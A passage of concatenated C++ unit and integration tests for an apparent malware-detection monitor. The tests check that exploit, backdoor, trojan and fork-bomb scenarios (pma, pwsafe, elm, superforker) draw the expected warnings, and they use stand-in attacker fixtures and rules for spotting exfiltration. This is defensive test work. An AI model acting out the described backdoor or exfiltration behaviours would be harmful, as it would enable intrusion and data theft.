    // The exfiltrator is flagged: hard-coded secret file flowing to
    // a hard-coded socket address (HIGH).
    bool client_high = false;
    bool server_flagged = false;
    for (const auto &w : hth.secpert().warnings()) {
        if (w.pid == pc.pid && w.severity == Severity::High)
            client_high = true;
        if (w.pid == ps.pid)
            server_flagged = true;
    }
    EXPECT_TRUE(client_high);
    // The collector writes network data into its hard-coded log —
    // also suspicious, attributed to its own pid.
    EXPECT_TRUE(server_flagged);
    // The data really arrived.
    auto log = k.vfs().lookup("collected.log");
    ASSERT_NE(log, nullptr);
    EXPECT_FALSE(log->content.empty());
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
