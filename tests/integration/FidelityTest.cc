/**
 * @file
 * Fidelity tests: the evaluation scenarios must not merely be
 * flagged — the *specific* warnings the paper documents must appear,
 * with the documented wording, counts and subtleties.
 */

#include <gtest/gtest.h>

#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;
using secpert::Severity;

namespace
{

Scenario
findScenario(std::vector<Scenario> list, const std::string &id)
{
    for (auto &s : list)
        if (s.id == id)
            return s;
    fatal("no scenario ", id);
}

size_t
countOf(const Report &report, Severity severity)
{
    size_t n = 0;
    for (const auto &w : report.warnings)
        if (w.severity == severity)
            ++n;
    return n;
}

} // namespace

//
// §8.3.1 ElmExploit: the tmpmail write warns HIGH; the system()
// execve of /bin/sh is generated but filtered through trusted libc.
//

TEST(Fidelity, ElmExploit)
{
    Scenario s = findScenario(exploitScenarios(), "ElmExploit");
    ScenarioResult r = runScenario(s);
    const std::string &t = r.report.transcript;
    EXPECT_NE(t.find("Warning [HIGH] Found Write call Data Flowing"),
              std::string::npos);
    EXPECT_NE(t.find("To: tmpmail"), std::string::npos);
    // No execve warning at all: /bin/sh originates in trusted libc.
    EXPECT_EQ(r.report.countByRule("check_execve"), 0u);
}

//
// §8.3.2 nlspath: exactly one LOW for the hard-coded /bin/su.
//

TEST(Fidelity, Nlspath)
{
    Scenario s = findScenario(exploitScenarios(), "nlspath");
    ScenarioResult r = runScenario(s);
    EXPECT_EQ(r.report.countByRule("check_execve"), 1u);
    EXPECT_EQ(r.report.maxSeverity(), Severity::Low);
    EXPECT_NE(r.report.transcript.find("/bin/su"), std::string::npos);
}

//
// §8.3.3 procex: both execve calls warned LOW.
//

TEST(Fidelity, Procex)
{
    Scenario s = findScenario(exploitScenarios(), "procex");
    ScenarioResult r = runScenario(s);
    EXPECT_EQ(r.report.countByRule("check_execve"), 2u);
    EXPECT_NE(r.report.transcript.find("/bin/ping"),
              std::string::npos);
    EXPECT_NE(r.report.transcript.find("/bin/ls"), std::string::npos);
    EXPECT_EQ(countOf(r.report, Severity::High), 0u);
}

//
// §8.3.4 grabem: HIGH writes into .exrc%.
//

TEST(Fidelity, Grabem)
{
    Scenario s = findScenario(exploitScenarios(), "grabem");
    ScenarioResult r = runScenario(s);
    EXPECT_NE(r.report.transcript.find("To: .exrc%"),
              std::string::npos);
    EXPECT_GE(countOf(r.report, Severity::High), 1u);
    // Unlike the paper's prototype, the USER_INPUT provenance of the
    // logged credentials is tracked.
    EXPECT_GE(r.report.countByRule("io_USER_INPUT_to_FILE"), 1u);
}

//
// §8.3.5 vixie crontab: HIGH for ./Window, then LOW for crontab.
//

TEST(Fidelity, VixieCrontab)
{
    Scenario s = findScenario(exploitScenarios(), "vixie crontab");
    ScenarioResult r = runScenario(s);
    EXPECT_NE(r.report.transcript.find("To: ./Window"),
              std::string::npos);
    EXPECT_EQ(r.report.countByRule("check_execve"), 1u);
    EXPECT_NE(r.report.transcript.find("/usr/bin/crontab"),
              std::string::npos);
    EXPECT_GE(countOf(r.report, Severity::High), 1u);
    EXPECT_GE(countOf(r.report, Severity::Low), 1u);
}

//
// §8.3.6 pma: the four documented HIGH relays with the hard-coded
// server context.
//

TEST(Fidelity, Pma)
{
    Scenario s = findScenario(exploitScenarios(), "pma");
    ScenarioResult r = runScenario(s);
    const std::string &t = r.report.transcript;
    EXPECT_EQ(countOf(r.report, Severity::High), 4u);
    EXPECT_NE(t.find("opened a socket for remote connections"),
              std::string::npos);
    EXPECT_NE(t.find("LocalHost:11116"), std::string::npos);
    EXPECT_NE(t.find("the server address was hardcoded in"),
              std::string::npos);
    EXPECT_NE(t.find("To: inpipe"), std::string::npos);
    EXPECT_NE(t.find("From: outpipe"), std::string::npos);
    EXPECT_NE(t.find("gateway:36982"), std::string::npos);
}

//
// §8.3.7 superforker: hard-coded random names + both abuse levels.
//

TEST(Fidelity, Superforker)
{
    Scenario s = findScenario(exploitScenarios(), "superforker");
    ScenarioResult r = runScenario(s);
    EXPECT_GE(r.report.countByRule("io_BINARY_to_FILE"), 1u);
    EXPECT_GE(r.report.countByRule("resource_abuse_count") +
                  r.report.countByRule("resource_abuse_rate"),
              1u);
    EXPECT_NE(r.report.transcript.find("This call was"),
              std::string::npos);
}

//
// §8.2: the documented trusted-program warnings are *Low only*,
// and the silent programs are fully silent.
//

TEST(Fidelity, TrustedWarningsAreLowOnly)
{
    for (const char *id :
         {"make clean", "make (build)", "g++", "xeyes"}) {
        Scenario s = findScenario(trustedProgramScenarios(), id);
        ScenarioResult r = runScenario(s);
        EXPECT_TRUE(r.flagged) << id;
        EXPECT_EQ(r.report.maxSeverity(), Severity::Low) << id;
    }
}

TEST(Fidelity, SilentTrustedProgramsProduceNoOutputAtAll)
{
    for (const char *id : {"ls", "column", "awk", "pico", "tail",
                           "diff", "wc", "bc"}) {
        Scenario s = findScenario(trustedProgramScenarios(), id);
        ScenarioResult r = runScenario(s);
        EXPECT_TRUE(r.report.transcript.empty()) << id << ":\n"
                                                 << r.report.transcript;
    }
}

TEST(Fidelity, GxxWarnsForBothHelpers)
{
    Scenario s = findScenario(trustedProgramScenarios(), "g++");
    ScenarioResult r = runScenario(s);
    EXPECT_NE(r.report.transcript.find("cc1plus"), std::string::npos);
    EXPECT_NE(r.report.transcript.find("collect2"), std::string::npos);
    EXPECT_GE(r.report.countByRule("check_execve"), 2u);
}

//
// §8.4 macro: the trojaned Tic-Tac-Toe exec fails (not a loadable
// image) but is still warned, and the drop write is HIGH.
//

TEST(Fidelity, TttTrojanSequence)
{
    Scenario s = findScenario(macroScenarios(), "ttt (trojaned)");
    ScenarioResult r = runScenario(s);
    const std::string &t = r.report.transcript;
    EXPECT_NE(t.find("To: ./malicious_code.txt"), std::string::npos);
    EXPECT_EQ(r.report.countByRule("check_execve"), 1u);
    EXPECT_NE(t.find("./malicious_code.txt"), std::string::npos);
}

TEST(Fidelity, PwsafeExfiltrationSources)
{
    Scenario s = findScenario(macroScenarios(), "pwsafe (trojaned)");
    ScenarioResult r = runScenario(s);
    // Complete tracking: the database file is identified as a source
    // (the paper notes its prototype missed it).
    EXPECT_GE(r.report.countByRule("io_FILE_to_SOCKET"), 1u);
    EXPECT_NE(r.report.transcript.find(".pwsafe.dat"),
              std::string::npos);
    // The clean run is silent.
    Scenario clean = findScenario(macroScenarios(),
                                  "pwsafe --exportdb");
    ScenarioResult cr = runScenario(clean);
    EXPECT_FALSE(cr.flagged);
}

//
// Stdout sanity: monitored programs actually do their job.
//

TEST(Fidelity, TrustedProgramsProduceOutput)
{
    Scenario s = findScenario(trustedProgramScenarios(), "column");
    ScenarioResult r = runScenario(s);
    EXPECT_NE(r.report.stdoutData.find("alpha"), std::string::npos);
    EXPECT_NE(r.report.stdoutData.find("gamma"), std::string::npos);

    Scenario wc = findScenario(trustedProgramScenarios(), "wc");
    ScenarioResult wr = runScenario(wc);
    EXPECT_EQ(wr.report.stdoutData, "20");
}

TEST(Fidelity, PmaAttackerSeesShellOutput)
{
    // End-to-end: the remote attacker actually received the csh
    // listing through the backdoor relay.
    Hth hth;
    Scenario s = findScenario(exploitScenarios(), "pma");
    s.setup(hth.kernel());
    hth.monitor(s.path, s.argv);
    // The outpipe FIFO exists and the daemon exited cleanly.
    bool has_outpipe = false;
    for (const auto &path : hth.kernel().vfs().paths())
        has_outpipe = has_outpipe ||
                      path.find("outpipe") != std::string::npos;
    EXPECT_TRUE(has_outpipe);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
