/**
 * @file
 * End-to-end provenance: run the pma backdoor scenario (§8.3.6) and
 * walk the evidence graph behind its High verdict all the way from
 * the rule fire to the socket-read event, the REMOTE origin and the
 * MAGIC_GUARD static finding — then run it again and require the
 * serialized graph to be byte-identical (the determinism contract
 * `hthd --explain` relies on).
 */

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "obs/Provenance.hh"
#include "obs/Span.hh"
#include "support/Json.hh"
#include "workloads/Exploits.hh"
#include "workloads/Scenario.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

Scenario
pmaScenario()
{
    for (Scenario &s : exploitScenarios())
        if (s.id == "pma")
            return s;
    ADD_FAILURE() << "pma scenario missing from exploit corpus";
    return {};
}

HthOptions
observedOptions()
{
    HthOptions options;
    options.spanTrace = true;
    return options;
}

/** Targets of @p label edges leaving @p from. */
std::vector<const obs::ProvNode *>
targets(const obs::ProvenanceGraph &g, const std::string &from,
        const std::string &label)
{
    std::vector<const obs::ProvNode *> out;
    for (const obs::ProvEdge &e : g.edges())
        if (e.from == from && e.label == label)
            if (const obs::ProvNode *n = g.findNode(e.to))
                out.push_back(n);
    return out;
}

bool
attrEquals(const obs::ProvNode &n, const std::string &key,
           const std::string &value)
{
    const std::string *a = n.attr(key);
    return a && *a == value;
}

} // namespace

TEST(Provenance, PmaHighVerdictCarriesFullEvidenceChain)
{
    Scenario pma = pmaScenario();
    ScenarioResult result = runScenario(pma, observedOptions());

    ASSERT_TRUE(result.report.flagged(secpert::Severity::High));
    const obs::ProvenanceGraph &g = result.report.provenance;
    ASSERT_FALSE(g.empty());

    // warning(HIGH) --fired_by--> fire --matched--> fact
    //   --describes--> event(READ from SOCKET)
    //   --source_origin--> origin(class REMOTE)
    bool chain = false;
    for (const obs::ProvNode &w : g.nodes()) {
        if (w.kind != "warning" || !attrEquals(w, "severity", "HIGH"))
            continue;
        for (const obs::ProvNode *fire :
             targets(g, w.id, "fired_by"))
            for (const obs::ProvNode *fact :
                 targets(g, fire->id, "matched"))
                for (const obs::ProvNode *ev :
                     targets(g, fact->id, "describes")) {
                    if (ev->kind != "event" ||
                        !attrEquals(*ev, "source_type", "SOCKET"))
                        continue;
                    for (const obs::ProvNode *origin :
                         targets(g, ev->id, "source_origin"))
                        if (attrEquals(*origin, "class", "REMOTE"))
                            chain = true;
                }
    }
    EXPECT_TRUE(chain)
        << "no HIGH warning chains to a REMOTE socket origin:\n"
        << g.renderChains();

    // The hybrid rule puts the load-time evidence in the same
    // graph: the MAGIC_GUARD trigger comparison found statically.
    bool found_static = false;
    for (const obs::ProvNode &n : g.nodes())
        if (n.kind == "finding" &&
            attrEquals(n, "kind", "MAGIC_GUARD"))
            found_static = true;
    EXPECT_TRUE(found_static)
        << "MAGIC_GUARD static finding missing:\n"
        << g.renderChains();

    // High verdict + enabled recorder => the flight window rides
    // along, and it saw the socket read it is there to explain.
    ASSERT_FALSE(g.flight.empty());
    bool saw_read = false;
    for (const std::string &line : g.flight)
        if (line.find(" E ") != std::string::npos &&
            line.find("read") != std::string::npos)
            saw_read = true;
    EXPECT_TRUE(saw_read) << "flight recorder lost the read event";

    // Span tracing was on: the ring must hold the whole-monitor
    // span plus fine-grained ones, and none may be inverted.
    ASSERT_FALSE(result.report.spans.empty());
    bool saw_monitor = false;
    for (const obs::SpanRecord &s : result.report.spans) {
        EXPECT_LE(s.beginNs, s.endNs);
        if (s.id == obs::SpanId::Monitor)
            saw_monitor = true;
    }
    EXPECT_TRUE(saw_monitor);
}

TEST(Provenance, PmaGraphIsByteStableAcrossRuns)
{
    Scenario pma = pmaScenario();
    ScenarioResult a = runScenario(pma, observedOptions());
    ScenarioResult b = runScenario(pma, observedOptions());

    ASSERT_TRUE(a.report.flagged());
    EXPECT_TRUE(a.report.provenance == b.report.provenance);
    EXPECT_EQ(a.report.provenance.toJson(),
              b.report.provenance.toJson());
    EXPECT_EQ(a.report.provenance.toDot(),
              b.report.provenance.toDot());

    // And the serialized form is real JSON a consumer can load.
    support::JsonValue doc =
        support::parseJson(a.report.provenance.toJson());
    EXPECT_FALSE(doc.at("nodes").items().empty());
    EXPECT_FALSE(doc.at("edges").items().empty());
    EXPECT_FALSE(doc.at("flight").items().empty());
}

TEST(Provenance, CleanRunBuildsNoGraph)
{
    // An unflagged session must not pay for provenance assembly,
    // and its report must not carry a stale graph.
    for (Scenario &s : exploitScenarios()) {
        if (s.expectMalicious)
            continue;
        ScenarioResult r = runScenario(s, observedOptions());
        if (r.report.flagged())
            continue; // divergence is FidelityTest's business
        EXPECT_TRUE(r.report.provenance.empty()) << s.id;
        EXPECT_TRUE(r.report.provenance.flight.empty()) << s.id;
    }
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
