/**
 * @file
 * Trace-engine ablation differential tests.
 *
 * The trace-linking engine (superblock formation, threaded
 * dispatch, untainted specialization) is a pure performance layer:
 * with it on or off, every scenario in the workloads corpus must
 * produce the identical analysis — same CLIPS fire trace, same
 * warnings, same transcript, same guest-visible behaviour, same
 * instruction accounting.
 */

#include <gtest/gtest.h>

#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

/** Run @p s with the trace engine on or off. */
Report
runWith(const Scenario &s, bool superblocks)
{
    HthOptions options;
    options.superblocks = superblocks;
    return runScenario(s, options).report;
}

/** Warnings rendered one per line for whole-list comparison. */
std::string
warningsToString(const Report &r)
{
    std::string out;
    for (const auto &w : r.warnings) {
        out += std::to_string((int)w.severity);
        out += ' ';
        out += w.rule;
        out += " pid=";
        out += std::to_string(w.pid);
        out += ' ';
        out += w.message;
        out += '\n';
    }
    return out;
}

class SuperblockDifferentialTest
    : public ::testing::TestWithParam<Scenario>
{
};

} // namespace

TEST_P(SuperblockDifferentialTest, AblationAgrees)
{
    const Scenario &s = GetParam();
    Report on = runWith(s, true);
    Report off = runWith(s, false);

    // Identical analysis: the expert system must see the exact same
    // event stream in the exact same order.
    EXPECT_EQ(on.fireTrace, off.fireTrace);
    EXPECT_EQ(warningsToString(on), warningsToString(off));
    EXPECT_EQ(on.maxSeverity(), off.maxSeverity());
    EXPECT_EQ(on.transcript, off.transcript);
    EXPECT_EQ(on.eventsAnalyzed, off.eventsAnalyzed);
    EXPECT_EQ(on.rulesFired, off.rulesFired);

    // Identical guest-visible execution and accounting: traces
    // retire the same instructions the generic loop would.
    EXPECT_EQ(on.status, off.status);
    EXPECT_EQ(on.stdoutData, off.stdoutData);
    EXPECT_EQ(on.exitCode, off.exitCode);
    EXPECT_EQ(on.instructions, off.instructions) << s.id;
    EXPECT_EQ(on.syscalls, off.syscalls) << s.id;

    // The ablated side must genuinely have the engine off.
    EXPECT_EQ(off.telemetry.metrics.counter("vm.superblock.formed"),
              0u);

    if (s.expectMalicious) {
        EXPECT_FALSE(on.fireTrace.empty()) << s.id;
    }
}

namespace
{

std::vector<Scenario>
allScenarios()
{
    std::vector<Scenario> all;
    for (auto &&list :
         {executionFlowScenarios(), resourceAbuseScenarios(),
          infoFlowScenarios(), macroScenarios(),
          trustedProgramScenarios(), exploitScenarios()})
        for (auto &s : list)
            all.push_back(std::move(s));
    return all;
}

std::string
scenarioName(const ::testing::TestParamInfo<Scenario> &info)
{
    // gtest parameter names must be alphanumeric.
    std::string name;
    for (char c : info.param.id)
        if (std::isalnum((unsigned char)c))
            name += c;
    return name;
}

} // namespace

INSTANTIATE_TEST_SUITE_P(Corpus, SuperblockDifferentialTest,
                         ::testing::ValuesIn(allScenarios()),
                         scenarioName);

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
