#include <gtest/gtest.h>
#include <iostream>
#include "workloads/Micro.hh"

using namespace hth;
using namespace hth::workloads;

void runAll(const std::vector<Scenario>& list)
{
    for (const Scenario &s : list) {
        ScenarioResult r = runScenario(s);
        std::cout << "=== " << s.id << " flagged=" << r.flagged
                  << " expect=" << s.expectMalicious
                  << " status=" << (int)r.report.status
                  << " maxsev=" << (int)r.report.maxSeverity()
                  << " expsev=" << (int)s.expectSeverity << "\n";
        if (r.flagged != s.expectMalicious)
            std::cout << r.report.transcript << "\n";
        EXPECT_TRUE(r.correct) << s.id << "\n" << r.report.transcript;
    }
}

TEST(Smoke, ExecutionFlow) { runAll(executionFlowScenarios()); }
TEST(Smoke, ResourceAbuse) { runAll(resourceAbuseScenarios()); }
TEST(Smoke, InfoFlow) { runAll(infoFlowScenarios()); }

int main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}

#include "workloads/Trusted.hh"
TEST(Smoke, Trusted) { runAll(trustedProgramScenarios()); }

#include "workloads/Exploits.hh"
TEST(Smoke, Exploits) { runAll(exploitScenarios()); }

#include "workloads/Macro.hh"
TEST(Smoke, Macro) { runAll(macroScenarios()); }

#include "workloads/Characterize.hh"
TEST(Smoke, Characterize)
{
    for (const CharacterizedExploit &ce : characterizationModels()) {
        ScenarioResult r = runScenario(ce.scenario);
        PatternRow row = derivePatterns(ce.scenario, r);
        std::cout << "=== " << ce.scenario.id
                  << " nui=" << row.noUserIntervention
                  << " rd=" << row.remotelyDirected
                  << " hard=" << row.hardcodedResources
                  << " deg=" << row.degradingPerformance
                  << " flagged=" << r.flagged << "\n";
        EXPECT_EQ(row.noUserIntervention, ce.expected.noUserIntervention) << ce.scenario.id;
        EXPECT_EQ(row.remotelyDirected, ce.expected.remotelyDirected) << ce.scenario.id << "\n" << r.report.transcript;
        EXPECT_EQ(row.hardcodedResources, ce.expected.hardcodedResources) << ce.scenario.id;
        EXPECT_EQ(row.degradingPerformance, ce.expected.degradingPerformance) << ce.scenario.id;
    }
}
