/**
 * @file
 * Trace record/replay fidelity over the whole workload corpus.
 *
 * Every scenario runs live with a TraceWriter tee'd in front of
 * Secpert (HthOptions::eventTap); the recorded trace is then
 * replayed into a fresh Secpert. Capture and analysis are fully
 * decoupled, so the replayed expert system must reach byte-identical
 * conclusions: same transcript, same CLIPS fire trace, same
 * warnings. Mirrors DifferentialTest.cc, with the trace file in
 * place of the matcher strategy as the varied dimension.
 */

#include <gtest/gtest.h>

#include <sstream>

#include "secpert/Secpert.hh"
#include "trace/TraceReader.hh"
#include "trace/TraceWriter.hh"
#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

std::string
warningsToString(const std::vector<secpert::Warning> &warnings)
{
    std::string out;
    for (const auto &w : warnings) {
        out += std::to_string((int)w.severity);
        out += ' ';
        out += w.rule;
        out += " pid=";
        out += std::to_string(w.pid);
        out += ' ';
        out += w.message;
        out += '\n';
    }
    return out;
}

class TraceRoundTripTest : public ::testing::TestWithParam<Scenario>
{
};

} // namespace

TEST_P(TraceRoundTripTest, ReplayReproducesLiveRun)
{
    const Scenario &s = GetParam();

    // Live run, recording the event stream on the side.
    std::stringstream bytes;
    trace::TraceWriter writer(bytes);
    HthOptions options;
    options.eventTap = &writer;
    Report live = runScenario(s, options).report;
    writer.finish();

    // Offline analysis: a fresh expert system fed only the trace.
    trace::TraceReader reader(bytes);
    secpert::Secpert replayed(options.policy);
    uint64_t events = reader.replay(replayed);

    // The trace also carries static-finding frames, which Secpert
    // does not count as analyzed events.
    EXPECT_GE(events, live.eventsAnalyzed) << s.id;
    EXPECT_EQ(replayed.staticFindings().size(),
              live.staticFindings.size())
        << s.id;
    EXPECT_EQ(replayed.transcript(), live.transcript) << s.id;
    EXPECT_EQ(replayed.env().fireTraceToString(), live.fireTrace)
        << s.id;
    EXPECT_EQ(warningsToString(replayed.warnings()),
              warningsToString(live.warnings))
        << s.id;
    EXPECT_EQ(replayed.stats().eventsAnalyzed, live.eventsAnalyzed)
        << s.id;
    EXPECT_EQ(replayed.stats().rulesFired, live.rulesFired) << s.id;

    // The malicious scenarios must actually flag through the replay
    // path, or the comparison is vacuous.
    if (s.expectMalicious) {
        EXPECT_FALSE(replayed.warnings().empty()) << s.id;
    }

    // A corrupted copy of the same trace must be rejected, not
    // silently mis-analyzed.
    std::string raw = bytes.str();
    if (raw.size() > 40) {
        raw[raw.size() / 2] ^= 0x20;
        std::istringstream corrupt(raw);
        secpert::Secpert victim(options.policy);
        EXPECT_THROW(
            {
                trace::TraceReader r(corrupt);
                r.replay(victim);
            },
            FatalError)
            << s.id;
    }
}

namespace
{

std::vector<Scenario>
allScenarios()
{
    std::vector<Scenario> all;
    for (auto &&list :
         {executionFlowScenarios(), resourceAbuseScenarios(),
          infoFlowScenarios(), macroScenarios(),
          trustedProgramScenarios(), exploitScenarios()})
        for (auto &s : list)
            all.push_back(std::move(s));
    return all;
}

std::string
scenarioName(const ::testing::TestParamInfo<Scenario> &info)
{
    std::string name;
    for (char c : info.param.id)
        if (std::isalnum((unsigned char)c))
            name += c;
    return name;
}

} // namespace

INSTANTIATE_TEST_SUITE_P(Corpus, TraceRoundTripTest,
                         ::testing::ValuesIn(allScenarios()),
                         scenarioName);

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
