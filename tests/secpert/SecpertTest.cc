/**
 * @file
 * Unit tests for Secpert: the execution-flow rule's severity ladder,
 * the resource-abuse thresholds (boundary cases), the full §4.3
 * information-flow severity matrix (parameterised sweep), trusted
 * filters, the resolution protocol, custom rules and reset.
 */

#include <gtest/gtest.h>

#include "secpert/Secpert.hh"

using namespace hth;
using namespace hth::secpert;
using harrier::OriginRef;
using harrier::ResourceAccessEvent;
using harrier::ResourceIoEvent;
using taint::SourceType;

namespace
{

ResourceAccessEvent
execveEvent(const std::vector<OriginRef> &origins, uint64_t time = 10,
            uint64_t freq = 5)
{
    ResourceAccessEvent ev;
    ev.ctx.pid = 1;
    ev.ctx.time = time;
    ev.ctx.absTime = time;
    ev.ctx.frequency = freq;
    ev.syscall = "SYS_execve";
    ev.resName = "/bin/ls";
    ev.resType = SourceType::File;
    ev.origins = origins;
    return ev;
}

ResourceAccessEvent
cloneEvent(uint64_t abs_time)
{
    ResourceAccessEvent ev;
    ev.ctx.pid = 1;
    ev.ctx.absTime = abs_time;
    ev.syscall = "SYS_clone";
    ev.isProcessCreate = true;
    return ev;
}

ResourceIoEvent
writeEvent(SourceType src_type, std::vector<OriginRef> src_origins,
           SourceType tgt_type, std::vector<OriginRef> tgt_origins)
{
    ResourceIoEvent ev;
    ev.ctx.pid = 1;
    ev.ctx.time = 10;
    ev.ctx.absTime = 10;
    ev.ctx.frequency = 5;
    ev.syscall = "SYS_write";
    ev.isWrite = true;
    ev.source.type = src_type;
    ev.source.name = "srcname";
    ev.sourceOrigins = std::move(src_origins);
    ev.targetName = "tgtname";
    ev.targetType = tgt_type;
    ev.targetOrigins = std::move(tgt_origins);
    return ev;
}

const OriginRef HARD{SourceType::Binary, "/apps/evil"};
const OriginRef TRUSTED{SourceType::Binary, "/lib/tls/libc.so.6"};
const OriginRef USER{SourceType::UserInput, "COMMAND_LINE"};
const OriginRef REMOTE{SourceType::Socket, "attacker:6667"};

} // namespace

//
// Execution flow (§4.1)
//

TEST(SecpertExecve, HardcodedIsLow)
{
    Secpert s;
    s.onResourceAccess(execveEvent({HARD}));
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::Low);
    EXPECT_EQ(s.warnings()[0].rule, "check_execve");
}

TEST(SecpertExecve, RareAndLateIsMedium)
{
    Secpert s;
    // freq < RARE_FREQUENCY(3), time > LONG_TIME(200)
    s.onResourceAccess(execveEvent({HARD}, 500, 1));
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::Medium);
}

TEST(SecpertExecve, BoundaryNotMedium)
{
    Secpert s;
    // Exactly at the thresholds: freq == RARE or time == LONG must
    // NOT escalate (strict comparisons in the rule).
    s.onResourceAccess(execveEvent({HARD}, 200, 1));
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::Low);
    Secpert s2;
    s2.onResourceAccess(execveEvent({HARD}, 500, 3));
    ASSERT_EQ(s2.warnings().size(), 1u);
    EXPECT_EQ(s2.warnings()[0].severity, Severity::Low);
}

TEST(SecpertExecve, SocketOriginIsHigh)
{
    Secpert s;
    s.onResourceAccess(execveEvent({REMOTE}));
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::High);
}

TEST(SecpertExecve, TrustedBinaryFiltered)
{
    Secpert s;
    s.onResourceAccess(execveEvent({TRUSTED}));
    EXPECT_TRUE(s.warnings().empty());
}

TEST(SecpertExecve, UserOriginSilent)
{
    Secpert s;
    s.onResourceAccess(execveEvent({USER}));
    EXPECT_TRUE(s.warnings().empty());
}

TEST(SecpertExecve, MixedUserAndHardStillWarns)
{
    // make finding g++ via $PATH: USER_INPUT + BINARY.
    Secpert s;
    s.onResourceAccess(execveEvent({USER, HARD}));
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::Low);
}

TEST(SecpertExecve, TranscriptMatchesPaperFormat)
{
    Secpert s;
    s.onResourceAccess(execveEvent({HARD}));
    std::string t = s.transcript();
    EXPECT_NE(t.find("Warning [LOW] "), std::string::npos);
    EXPECT_NE(t.find("Found SYS_execve call (\"/bin/ls\")"),
              std::string::npos);
    EXPECT_NE(t.find("originated from (\"/apps/evil\")"),
              std::string::npos);
}

TEST(SecpertExecve, ResolutionProtocolStops)
{
    // The appendix rule retracts the RESOLVE fact and asserts STOP;
    // Secpert then clears per-event facts.
    Secpert s;
    s.onResourceAccess(execveEvent({HARD}));
    EXPECT_TRUE(s.env().factsByTemplate("resolution").empty());
    EXPECT_TRUE(s.env().factsByTemplate("system_call_access").empty());
}

//
// Resource abuse (§4.2)
//

TEST(SecpertAbuse, CountThresholdRaisesLow)
{
    PolicyConfig cfg;
    cfg.maxProcesses = 3;
    cfg.rateMax = 1000;         // keep the rate rule quiet
    Secpert s(cfg);
    for (int i = 0; i < 3; ++i)
        s.onResourceAccess(cloneEvent(1000 * (uint64_t)(i + 1)));
    EXPECT_TRUE(s.warnings().empty());      // at the threshold: quiet
    s.onResourceAccess(cloneEvent(4000));
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::Low);
    EXPECT_EQ(s.warnings()[0].rule, "resource_abuse_count");
}

TEST(SecpertAbuse, RateThresholdRaisesMedium)
{
    PolicyConfig cfg;
    cfg.maxProcesses = 1000;    // keep the count rule quiet
    cfg.rateWindow = 100;
    cfg.rateMax = 3;
    Secpert s(cfg);
    for (int i = 0; i < 3; ++i)
        s.onResourceAccess(cloneEvent(10 + (uint64_t)i));
    EXPECT_TRUE(s.warnings().empty());
    s.onResourceAccess(cloneEvent(14));     // 4th within the window
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::Medium);
    EXPECT_EQ(s.warnings()[0].rule, "resource_abuse_rate");
}

TEST(SecpertAbuse, SlowCreationResetsWindow)
{
    PolicyConfig cfg;
    cfg.maxProcesses = 1000;
    cfg.rateWindow = 100;
    cfg.rateMax = 2;
    Secpert s(cfg);
    // Spread out: each clone lands in a fresh window.
    for (int i = 0; i < 6; ++i)
        s.onResourceAccess(cloneEvent(1000 * (uint64_t)(i + 1)));
    EXPECT_TRUE(s.warnings().empty());
}

//
// Information flow (§4.3): the full severity matrix.
//

namespace
{

struct IoCase
{
    SourceType src;
    const OriginRef *srcOrigin;     // nullptr: no origins
    SourceType tgt;
    const OriginRef *tgtOrigin;
    int expected;                   // 0: silent, 1: Low, 3: High
};

std::string
originLabel(const OriginRef *ref)
{
    if (!ref)
        return "none";
    return sourceTypeName(ref->type);
}

} // namespace

class IoMatrixTest : public ::testing::TestWithParam<IoCase>
{
};

TEST_P(IoMatrixTest, SeverityMatchesMatrix)
{
    const IoCase &c = GetParam();
    Secpert s;
    std::vector<OriginRef> src_origins, tgt_origins;
    if (c.srcOrigin)
        src_origins.push_back(*c.srcOrigin);
    if (c.tgtOrigin)
        tgt_origins.push_back(*c.tgtOrigin);
    s.onResourceIo(writeEvent(c.src, src_origins, c.tgt, tgt_origins));

    std::string label =
        std::string(sourceTypeName(c.src)) + "(" +
        originLabel(c.srcOrigin) + ")->" + sourceTypeName(c.tgt) +
        "(" + originLabel(c.tgtOrigin) + ")";
    if (c.expected == 0) {
        EXPECT_TRUE(s.warnings().empty()) << label;
    } else {
        ASSERT_EQ(s.warnings().size(), 1u) << label;
        EXPECT_EQ((int)s.warnings()[0].severity, c.expected) << label;
    }
}

INSTANTIATE_TEST_SUITE_P(
    Matrix, IoMatrixTest,
    ::testing::Values(
        // BINARY -> FILE
        IoCase{SourceType::Binary, nullptr, SourceType::File, &USER, 0},
        IoCase{SourceType::Binary, nullptr, SourceType::File, &HARD, 3},
        IoCase{SourceType::Binary, nullptr, SourceType::File, &REMOTE,
               3},
        // BINARY -> SOCKET (hard target: Low, the pwsafe shape)
        IoCase{SourceType::Binary, nullptr, SourceType::Socket, &USER,
               0},
        IoCase{SourceType::Binary, nullptr, SourceType::Socket, &HARD,
               1},
        // FILE -> FILE
        IoCase{SourceType::File, &USER, SourceType::File, &USER, 0},
